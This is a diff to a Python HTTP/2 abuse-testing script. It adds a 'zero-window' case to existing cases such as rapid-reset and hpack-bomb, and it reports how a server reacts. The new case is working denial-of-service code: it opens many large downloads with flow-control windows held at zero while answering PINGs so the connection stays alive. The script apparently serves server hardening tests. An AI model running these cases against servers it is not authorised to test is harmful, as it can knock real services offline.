@@ -2,7 +2,7 @@
 """HTTP/2 abuse cases against a server speaking h2c with prior knowledge.
 
 Usage: h2abuse.py HOST PORT CASE [SECONDS [repeat]]
-CASE: rapid-reset, continuation-flood, hpack-bomb, cl-mismatch, settings-flood.
+CASE: rapid-reset, continuation-flood, hpack-bomb, cl-mismatch, settings-flood, zero-window.
 
 Runs one case for at most SECONDS (default 5) and prints one JSON line saying what the server
 did: GOAWAY error code, RST_STREAM codes, response statuses, whether it closed the connection,
@@ -33,6 +33,7 @@ class Peer:
 
     def __init__(self, host, port, seconds):
         self.deadline = time.monotonic() + seconds
+        self.seconds = seconds
         self.sock = socket.create_connection((host, port), timeout=seconds)
         self.buffer = b""
         self.closed = False
@@ -246,12 +247,33 @@ def settings_flood(peer, authority, count=200000):
     return {"settings_sent": sent}
 
 
+def zero_window(peer, authority, streams=20):
+    """SETTINGS_INITIAL_WINDOW_SIZE = 0, then `streams` large downloads whose windows never open;
+    PINGs are answered (the connection is alive), the streams never take a byte."""
+    peer.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 0)))
+    encoder = hpack.Encoder()
+    for i in range(streams):
+        block = encoder.encode(request(authority, b"GET", b"/big.php?mb=8"))
+        peer.send(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, block))
+    pings = 0
+    while not peer.closed and time.monotonic() < peer.deadline - 0.5:
+        before = peer.frames.get(PING, 0)
+        peer.read(wait=0.2)
+        for _ in range(peer.frames.get(PING, 0) - before):
+            pings += 1
+            peer.send(frame(PING, 0x1, 0, b"\0" * 8))
+        if sum(peer.rst.values()) >= streams:
+            break
+    return {"streams": streams, "reset_after": round(time.monotonic() - (peer.deadline - peer.seconds), 3)}
+
+
 CASES = {
     "rapid-reset": rapid_reset,
     "continuation-flood": continuation_flood,
     "hpack-bomb": hpack_bomb,
     "cl-mismatch": cl_mismatch,
     "settings-flood": settings_flood,
+    "zero-window": zero_window,
 }
 
 
